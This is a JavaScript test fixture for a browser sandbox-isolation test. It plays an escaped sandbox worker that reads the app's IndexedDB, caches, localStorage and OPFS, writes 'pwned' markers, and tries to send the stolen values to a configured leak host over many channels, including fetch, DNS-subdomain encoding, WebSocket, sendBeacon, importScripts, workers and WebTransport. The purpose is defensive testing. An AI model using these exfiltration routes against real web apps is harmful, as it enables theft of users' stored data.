// Attacker code for tests/browser/sandbox-isolation-js.test.ts. It plays an environment that has
// already escaped Python and runs arbitrary JavaScript as the sandbox worker: it tries to read the
// app's storage and to send what it found anywhere, then reports every outcome over the port it
// was handed. The page prepends `const CONFIG = {...};`. It also runs, as a control, as a plain
// worker of the page origin, where most of these attempts succeed.
/* global CONFIG */
'use strict';

const results = {};
const violations = [];
const broadcastReceivedByAttacker = [];

self.addEventListener('securitypolicyviolation', (event) => {
  violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});

function describeError(error) {
  if (error && typeof error === 'object' && 'name' in error) return `${error.name}: ${error.message}`;
  return String(error);
}

function withTimeout(promise, ms) {
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`timeout: no outcome within ${ms} ms`)), ms);
    promise.then(
      (value) => {
        clearTimeout(timer);
        resolve(value);
      },
      (error) => {
        clearTimeout(timer);
        reject(error);
      },
    );
  });
}

/** Runs one attempt; ok means it succeeded (value is what it saw), otherwise error says how it failed. */
async function attempt(name, run, ms = CONFIG.attemptTimeoutMs) {
  try {
    const value = await withTimeout(Promise.resolve().then(run), ms);
    results[name] = { ok: true, value: value === undefined ? null : value };
  } catch (error) {
    results[name] = { ok: false, error: describeError(error) };
  }
}

function leakUrl(kind, data) {
  return `${CONFIG.leakOrigin}/leak/${CONFIG.tag}/${kind}?data=${encodeURIComponent(data)}`;
}

function idbOpen(name, version) {
  return new Promise((resolve, reject) => {
    const request = version === undefined ? indexedDB.open(name) : indexedDB.open(name, version);
    let created = false;
    request.onupgradeneeded = () => {
      created = true;
    };
    request.onerror = () => reject(request.error);
    request.onblocked = () => reject(new Error('blocked'));
    request.onsuccess = () => resolve({ db: request.result, created });
  });
}

async function idbRead() {
  const { db, created } = await idbOpen(CONFIG.dbName);
  const stores = [...db.objectStoreNames];
  let value = null;
  if (stores.includes(CONFIG.storeName)) {
    value = await new Promise((resolve, reject) => {
      const get = db.transaction(CONFIG.storeName, 'readonly').objectStore(CONFIG.storeName).get(CONFIG.key);
      get.onsuccess = () => resolve(get.result === undefined ? null : get.result);
      get.onerror = () => reject(get.error);
    });
  }
  db.close();
  return { createdNewDatabase: created, stores, value };
}

async function idbWrite() {
  const { db } = await idbOpen(CONFIG.dbName);
  const stores = [...db.objectStoreNames];
  if (!stores.includes(CONFIG.storeName)) {
    db.close();
    return { wrote: false, stores };
  }
  await new Promise((resolve, reject) => {
    const tx = db.transaction(CONFIG.storeName, 'readwrite');
    tx.objectStore(CONFIG.storeName).put('pwned by attacker', 'pwned');
    tx.oncomplete = resolve;
    tx.onerror = () => reject(tx.error);
  });
  db.close();
  return { wrote: true, stores };
}

function onceEvent(target, okEvent, failEvents) {
  return new Promise((resolve, reject) => {
    target.addEventListener(okEvent, () => resolve(okEvent), { once: true });
    for (const name of failEvents)
      target.addEventListener(
        name,
        (event) => reject(new Error(`${name} event${event && event.code ? ` (code ${event.code})` : ''}`)),
        { once: true },
      );
  });
}

function xhr(url, async) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, async);
    if (async) {
      request.onload = () => resolve(`status ${request.status}`);
      request.onerror = () => reject(new Error('error event'));
      request.send();
    } else {
      request.send();
      resolve(`status ${request.status}`);
    }
  });
}

async function run(event) {
  const { port } = event.data || {};
  const boot = {
    keys: Object.keys(event.data || {}).sort(),
    transferredPorts: event.ports.length,
    fileNames: Object.keys((event.data && event.data.files) || {}),
  };
  const send = (message) => (port ? port.postMessage(message) : self.postMessage(message));

  const channel = new BroadcastChannel(CONFIG.channelName);
  channel.onmessage = (message) => broadcastReceivedByAttacker.push(message.data);

  // Where am I?
  await attempt('self.origin', () => self.origin);
  await attempt('location.href', () => String(self.location.href));
  await attempt('isSecureContext', () => self.isSecureContext);
  await attempt('WebRTC in this scope', () => ({
    RTCPeerConnection: typeof self.RTCPeerConnection,
    RTCDataChannel: typeof self.RTCDataChannel,
    newRTCDataChannel: (() => {
      try {
        return `constructed ${new self.RTCDataChannel()}`;
      } catch (error) {
        return describeError(error);
      }
    })(),
  }));
  await attempt('window/parent/document reachable', () => ({
    window: typeof self.window,
    parent: typeof self.parent,
    top: typeof self.top,
    opener: typeof self.opener,
    document: typeof self.document,
  }));

  // The app's storage.
  await attempt('indexedDB.databases()', async () =>
    (await indexedDB.databases()).map((db) => `${db.name}@${db.version}`),
  );
  await attempt('indexedDB.open(app db) read marker', idbRead);
  await attempt('indexedDB.open(app db) write pwned', idbWrite);
  await attempt('caches.keys()', () => caches.keys());
  await attempt('caches.open(app cache) match marker', async () => {
    const cache = await caches.open(CONFIG.cacheName);
    const hit = await cache.match(CONFIG.cacheKeyUrl);
    return { keys: (await cache.keys()).map((request) => request.url), value: hit ? await hit.text() : null };
  });
  await attempt('caches.open(app cache) put pwned', async () => {
    const cache = await caches.open(CONFIG.cacheName);
    await cache.put(`${CONFIG.cacheKeyUrl}-pwned`, new Response('pwned by attacker'));
    return 'written';
  });
  await attempt('localStorage', () => {
    if (typeof self.localStorage === 'undefined') throw new ReferenceError('localStorage is not defined in this scope');
    return self.localStorage.getItem(CONFIG.localStorageKey);
  });
  await attempt('sessionStorage', () => {
    if (typeof self.sessionStorage === 'undefined')
      throw new ReferenceError('sessionStorage is not defined in this scope');
    return self.sessionStorage.length;
  });
  await attempt('OPFS navigator.storage.getDirectory() read marker', async () => {
    const dir = await navigator.storage.getDirectory();
    const names = [];
    for await (const name of dir.keys()) names.push(name);
    let value = null;
    if (names.includes(CONFIG.opfsFile))
      value = await (await (await dir.getFileHandle(CONFIG.opfsFile)).getFile()).text();
    return { names, value };
  });
  await attempt('OPFS write pwned', async () => {
    const dir = await navigator.storage.getDirectory();
    const handle = await dir.getFileHandle('pwned.txt', { create: true });
    const access = await handle.createSyncAccessHandle();
    access.write(new TextEncoder().encode('pwned by attacker'));
    access.close();
    return 'written';
  });
  await attempt('navigator.locks.query()', () => navigator.locks.query());

  // Whatever was found is sent out below (the marker if any read succeeded).
  const read = (name) => (results[name] && results[name].ok && results[name].value ? results[name].value : null);
  const found = [
    read('indexedDB.open(app db) read marker') && read('indexedDB.open(app db) read marker').value,
    read('caches.open(app cache) match marker') && read('caches.open(app cache) match marker').value,
    read('localStorage'),
    read('OPFS navigator.storage.getDirectory() read marker') &&
      read('OPFS navigator.storage.getDirectory() read marker').value,
  ].filter((value) => typeof value === 'string' && value.length > 0);
  const stolen = found.length > 0 ? found.join('|') : 'nothing';

  await Promise.all([
    attempt('fetch(leak server, absolute)', async () => `status ${(await fetch(leakUrl('fetch', stolen))).status}`),
    attempt(
      'fetch(leak server, no-cors keepalive POST)',
      async () =>
        `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`,
    ),
    attempt(
      'fetch(leak host by name, DNS)',
      async () =>
        `status ${
          (
            await fetch(
              `${CONFIG.leakByName.replace(
                '//',
                `//${encodeURIComponent(stolen)
                  .replace(/[^a-z0-9-]/gi, '-')
                  .slice(0, 60)}.`,
              )}/leak/${CONFIG.tag}/fetch-by-name`,
            )
          ).status
        }`,
    ),
    attempt(
      'fetch(app origin, absolute)',
      async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/fetch-app?data=${stolen}`)).status}`,
    ),
    attempt(
      'fetch(app-relative /__leak)',
      async () => `status ${(await fetch(`/__leak/${CONFIG.tag}/fetch-relative?data=${stolen}`)).status}`,
    ),
    attempt('XMLHttpRequest async', () => xhr(leakUrl('xhr-async', stolen), true)),
    attempt('XMLHttpRequest sync', () => xhr(leakUrl('xhr-sync', stolen), false)),
    attempt('WebSocket', () => {
      const socket = new WebSocket(
        `${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/websocket?data=${stolen}`,
      );
      return onceEvent(socket, 'open', ['error', 'close']);
    }),
    attempt('EventSource', () => {
      const source = new EventSource(leakUrl('eventsource', stolen));
      return onceEvent(source, 'open', ['error']).finally(() => source.close());
    }),
    attempt('navigator.sendBeacon', () => {
      if (typeof navigator.sendBeacon !== 'function')
        throw new TypeError('navigator.sendBeacon is not a function in this scope');
      return navigator.sendBeacon(leakUrl('beacon', stolen), stolen);
    }),
    attempt('importScripts(leak)', () => {
      importScripts(leakUrl('importscripts.js', stolen));
      return 'loaded';
    }),
    attempt('import(leak)', () => import(leakUrl('import.js', stolen)).then(() => 'loaded')),
    attempt('FontFace(url(leak)).load()', async () => {
      const font = new FontFace('leak', `url(${leakUrl('font.woff2', stolen)})`);
      await font.load();
      return 'loaded';
    }),
    attempt('new Worker(leak url)', () => {
      const worker = new Worker(leakUrl('worker.js', stolen));
      return onceEvent(worker, 'message', ['error']).finally(() => worker.terminate());
    }),
    attempt('nested blob worker fetches leak', () => {
      const code = `fetch(${JSON.stringify(leakUrl('nested-worker-fetch', stolen))}).then((r) => postMessage('status ' + r.status), (e) => postMessage('failed: ' + e.name + ': ' + e.message));`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      return new Promise((resolve, reject) => {
        worker.onmessage = (message) =>
          String(message.data).startsWith('failed') ? reject(new Error(String(message.data))) : resolve(message.data);
        worker.onerror = (error) => reject(new Error(`worker error: ${error.message}`));
      }).finally(() => worker.terminate());
    }),
    attempt('WebTransport', async () => {
      if (typeof self.WebTransport !== 'function') throw new TypeError('WebTransport is not defined in this scope');
      const transport = new WebTransport(
        `https://${CONFIG.leakOrigin.replace(/^https?:\/\//, '')}/leak/${CONFIG.tag}/webtransport`,
      );
      await transport.ready;
      return 'connected';
    }),
    attempt('navigator.serviceWorker.register', async () => {
      if (!navigator.serviceWorker) throw new TypeError('navigator.serviceWorker is not available in this scope');
      await navigator.serviceWorker.register(leakUrl('sw.js', stolen));
      return 'registered';
    }),
    attempt('BroadcastChannel post to page', () => {
      channel.postMessage({ fromAttacker: CONFIG.tag, stolen });
      return 'posted (delivery is checked on the page)';
    }),
    attempt('postMessage to whoever owns this worker', () => {
      self.postMessage({ fromAttacker: CONFIG.tag, stolen, spadeSandboxDied: 'forged by attacker' });
      return 'posted (delivery is checked on the page)';
    }),
  ]);

  // Give the page's BroadcastChannel pings time to arrive.
  await new Promise((resolve) => setTimeout(resolve, 500));
  channel.close();
  send({ done: true, results, stolen, violations, broadcastReceivedByAttacker, boot });
  if (CONFIG.throwAtEnd) {
    setTimeout(() => {
      throw new Error(CONFIG.throwAtEnd);
    }, 0);
  }
}

self.addEventListener('message', (event) => void run(event), { once: true });
